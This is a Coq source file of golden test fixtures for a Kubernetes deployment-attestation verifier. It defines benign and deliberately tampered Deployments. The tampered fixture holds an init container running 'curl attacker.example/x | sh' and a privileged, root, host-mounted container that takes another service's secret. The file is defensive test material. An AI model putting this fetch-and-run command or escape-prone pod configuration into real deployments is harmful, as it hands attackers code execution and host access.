(* ===== verification/Fixtures.v ===== *)
(** * The golden fixtures as concrete Deployments

    internal/attest/testdata/*/deployment.yaml, over the concrete upstream
    instance: the inputs on which the theorems are instantiated and the golden
    vectors are recomputed. *)

From S2P Require Import Prelude Bytes GoJson Kube.

Open Scope Z_scope.
#[local] Open Scope string_scope.

Module Fixtures.
Import Concrete.

Definition no_resources : ResourceRequirements := {| rr_Requests := None; rr_Limits := None |}.

Definition mk_container (name image : string) (env : slice EnvVar)
    (res : ResourceRequirements) : Container :=
  {| c_Name := name; c_Image := image; c_Command := None; c_Args := None;
     c_WorkingDir := EmptyString; c_Env := env; c_EnvFrom := None; c_Ports := None;
     c_ImagePullPolicy := EmptyString; c_Resources := res; c_VolumeMounts := None;
     c_VolumeDevices := None; c_SecurityContext := None; c_LivenessProbe := None;
     c_ReadinessProbe := None; c_StartupProbe := None; c_Lifecycle := None;
     c_RestartPolicy := None |}.

Definition env_var (name value : string) : EnvVar :=
  {| ev_Name := name; ev_Value := value; ev_ValueFrom := None |}.

Definition mk_pod (cs : slice Container) : PodSpec :=
  {| ps_InitContainers := None; ps_Containers := cs; ps_ServiceAccountName := EmptyString;
     ps_AutomountServiceAccountToken := None; ps_ImagePullSecrets := None;
     ps_HostNetwork := false; ps_HostPID := false; ps_HostIPC := false;
     ps_HostUsers := None; ps_RuntimeClassName := None; ps_SecurityContext := None;
     ps_ShareProcessNamespace := None; ps_Volumes := None; ps_ResourceClaims := None;
     ps_HostAliases := None; ps_DNSPolicy := EmptyString; ps_DNSConfig := None;
     ps_Hostname := EmptyString; ps_Subdomain := EmptyString; ps_SetHostnameAsFQDN := None;
     ps_EnableServiceLinks := None; ps_NodeSelector := None; ps_NodeName := EmptyString;
     ps_SchedulerName := EmptyString; ps_Affinity := None; ps_Tolerations := None;
     ps_TopologySpreadConstraints := None; ps_PriorityClassName := EmptyString;
     ps_PreemptionPolicy := None; ps_SchedulingGates := None; ps_OS := None |}.

Definition converged_status (n : Z) : DeploymentStatus :=
  {| s_ObservedGeneration := 7; s_Replicas := n; s_UpdatedReplicas := n;
     s_ReadyReplicas := n; s_AvailableReplicas := n |}.

Definition labels (l : list (string * string)) : gomap := Some (list_to_map l).

Definition mk_deployment (ns name : string) (lbls : gomap) (replicas : option Z)
    (sel : option LabelSelector) (tlbls : gomap) (pod : PodSpec) : Deployment :=
  {| d_Namespace := ns; d_Name := name; d_UID := EmptyString; d_Generation := 7;
     d_Labels := lbls; d_Annotations := None; d_Replicas := replicas; d_Selector := sel;
     d_TemplateLabels := tlbls; d_TemplateSpec := pod;
     d_Status := converged_status (default 1 replicas) |}.

Definition match_labels (l : list (string * string)) : option LabelSelector :=
  Some {| ls_MatchLabels := labels l; ls_MatchExpressions := None |}.

Definition req (key op : string) (values : list string) : LabelSelectorRequirement :=
  {| lsr_Key := key; lsr_Operator := op; lsr_Values := append_nil values |}.

Definition quantities (l : list (string * (Z * Z))) : option (gmap string Quantity) :=
  Some (list_to_map l).

Definition server_resources : ResourceRequirements :=
  {| rr_Requests := quantities [("cpu", (250, 3)); ("memory", (536870912, 0))];
     rr_Limits := quantities [("cpu", (1, 0)); ("memory", (1073741824, 0))] |}.

Definition server (env : list EnvVar) : Container :=
  mk_container "server" "ghcr.io/acme/api:1.4.2" (Some env) server_resources.

Definition sidecar : Container :=
  mk_container "sidecar" "ghcr.io/acme/proxy:0.9.0" None no_resources.

Definition api_deployment (cs : list Container) : Deployment :=
  mk_deployment "payments" "api" (labels [("app", "api"); ("team", "payments")]) (Some 3)
    (match_labels [("app", "api")]) (labels [("app", "api")]) (mk_pod (Some cs)).

(** 01-baseline *)
Definition baseline : Deployment :=
  api_deployment [server [env_var "LOG_LEVEL" "info"; env_var "DB_PASSWORD" "super-secret"];
                  sidecar].

(** 03-declaration-order: containers, variables and labels in another order. *)
Definition declaration_order : Deployment :=
  mk_deployment "payments" "api" (labels [("team", "payments"); ("app", "api")]) (Some 3)
    (match_labels [("app", "api")]) (labels [("app", "api")])
    (mk_pod (Some [sidecar;
       server [env_var "DB_PASSWORD" "super-secret"; env_var "LOG_LEVEL" "info"]])).

(** 02-minimal-defaults *)
Definition minimal : Deployment :=
  mk_deployment "default" "bare" None None None None
    (mk_pod (Some [mk_container "only" "nginx:1.27" None no_resources])).

(** 04-generated-labels: the labels that controllers generate, on both levels. *)
Definition generated_labels : Deployment :=
  mk_deployment "payments" "api"
    (labels [("app", "api"); ("team", "payments"); ("pod-template-hash", "7d9fbb54c");
             ("controller-revision-hash", "api-6b5c"); ("pod-template-generation", "4")])
    (Some 3) (match_labels [("app", "api")])
    (labels [("app", "api"); ("pod-template-hash", "7d9fbb54c");
             ("apps.kubernetes.io/pod-index", "0")])
    (d_TemplateSpec baseline).

(** 05-excluded-metadata: annotations, uid, status and another secret value. *)
Definition excluded_metadata : Deployment :=
  {| d_Namespace := "payments"; d_Name := "api";
     d_UID := "1d1e2f3a-0000-0000-0000-000000000000"; d_Generation := 7;
     d_Labels := labels [("app", "api"); ("team", "payments")];
     d_Annotations := labels
       [("kubectl.kubernetes.io/last-applied-configuration", "{...}");
        ("deployment.kubernetes.io/revision", "4")];
     d_Replicas := Some 3; d_Selector := match_labels [("app", "api")];
     d_TemplateLabels := labels [("app", "api")];
     d_TemplateSpec := mk_pod (Some
       [server [env_var "LOG_LEVEL" "info"; env_var "DB_PASSWORD" "a-completely-different-secret"];
        sidecar]);
     d_Status := converged_status 3 |}.

(** 06-selector-expressions *)
Definition selector_expressions : Deployment :=
  mk_deployment "payments" "selective" None (Some 1)
    (Some {| ls_MatchLabels := labels [("tier", "backend"); ("app", "selective")];
             ls_MatchExpressions := Some
               [req "zone" "In" ["eu-west-3"; "eu-west-1"; "eu-west-2"];
                req "app" "NotIn" ["legacy"]; req "app" "In" ["selective"]] |})
    (labels [("app", "selective")])
    (mk_pod (Some [mk_container "app" "ghcr.io/acme/selective:2.0.0" None no_resources])).

(** 07-quantity-forms: 0.25, 1024Mi, 2G, 2000m and a plain integer. *)
Definition quantity_forms : Deployment :=
  mk_deployment "payments" "quantities" None (Some 1) (match_labels [("app", "quantities")])
    (labels [("app", "quantities")])
    (mk_pod (Some [mk_container "app" "ghcr.io/acme/quantities:1.0.0" None
       {| rr_Requests := quantities [("cpu", (25, 2)); ("memory", (1073741824, 0));
                                     ("ephemeral-storage", (2, -9))];
          rr_Limits := quantities [("cpu", (2000, 3)); ("memory", (1073741824, 0))] |}])).

(** 08-v1-weakness-benign and 09-v1-weakness-tampered. *)
Definition pause_image : string :=
  "registry.k8s.io/pause@sha256:7031c1b283388d2c2e09b57badb803c05ebed362dc88d84b480cc47f72a21097".

Definition pause_resources : ResourceRequirements :=
  {| rr_Requests := quantities [("cpu", (10, 3)); ("memory", (16777216, 0))];
     rr_Limits := quantities [("cpu", (50, 3)); ("memory", (33554432, 0))] |}.

Definition demo (pod : PodSpec) : Deployment :=
  mk_deployment "demo" "api" (labels [("app", "api")]) (Some 2) (match_labels [("app", "api")])
    (labels [("app", "api")]) pod.

Definition benign : Deployment :=
  demo (mk_pod (Some [mk_container "server" pause_image (Some [env_var "LOG_LEVEL" "info"])
    pause_resources])).

Definition tampered_server : Container :=
  {| c_Name := "server"; c_Image := pause_image; c_Command := Some ["/pause"];
     c_Args := Some ["--not-what-was-reviewed"]; c_WorkingDir := EmptyString;
     c_Env := Some [env_var "LOG_LEVEL" "trace"];
     c_EnvFrom := Some [JObj [("secretRef", JObj [("name", JStr "someone-elses-secret")])]];
     c_Ports := None; c_ImagePullPolicy := EmptyString; c_Resources := pause_resources;
     c_VolumeMounts := Some
       [JObj [("name", JStr "hostroot"); ("mountPath", JStr "/host")]];
     c_VolumeDevices := None;
     c_SecurityContext := Some (JObj
       [("capabilities", JObj [("add", JArr [JStr "SYS_ADMIN"; JStr "NET_ADMIN"])]);
        ("privileged", JBool true); ("runAsUser", JInt 0);
        ("allowPrivilegeEscalation", JBool true)]);
     c_LivenessProbe := None; c_ReadinessProbe := None; c_StartupProbe := None;
     c_Lifecycle := None; c_RestartPolicy := None |}.

Definition setup_container : Container :=
  {| c_Name := "setup"; c_Image := "busybox:1.36";
     c_Command := Some ["sh"; "-c"; "curl attacker.example/x | sh"]; c_Args := None;
     c_WorkingDir := EmptyString; c_Env := None; c_EnvFrom := None; c_Ports := None;
     c_ImagePullPolicy := EmptyString; c_Resources := no_resources; c_VolumeMounts := None;
     c_VolumeDevices := None; c_SecurityContext := None; c_LivenessProbe := None;
     c_ReadinessProbe := None; c_StartupProbe := None; c_Lifecycle := None;
     c_RestartPolicy := None |}.

Definition tampered_pod : PodSpec :=
  {| ps_InitContainers := Some [setup_container]; ps_Containers := Some [tampered_server];
     ps_ServiceAccountName := "overprivileged";
     ps_AutomountServiceAccountToken := Some true; ps_ImagePullSecrets := None;
     ps_HostNetwork := true; ps_HostPID := true; ps_HostIPC := false;
     ps_HostUsers := None; ps_RuntimeClassName := None; ps_SecurityContext := None;
     ps_ShareProcessNamespace := None;
     ps_Volumes := Some
       [JObj [("name", JStr "hostroot"); ("hostPath", JObj [("path", JStr "/")])]];
     ps_ResourceClaims := None; ps_HostAliases := None; ps_DNSPolicy := EmptyString;
     ps_DNSConfig := None; ps_Hostname := EmptyString; ps_Subdomain := EmptyString;
     ps_SetHostnameAsFQDN := None; ps_EnableServiceLinks := None; ps_NodeSelector := None;
     ps_NodeName := EmptyString; ps_SchedulerName := EmptyString; ps_Affinity := None;
     ps_Tolerations := None; ps_TopologySpreadConstraints := None;
     ps_PriorityClassName := EmptyString; ps_PreemptionPolicy := None;
     ps_SchedulingGates := None; ps_OS := None |}.

Definition tampered : Deployment := demo tampered_pod.

End Fixtures.
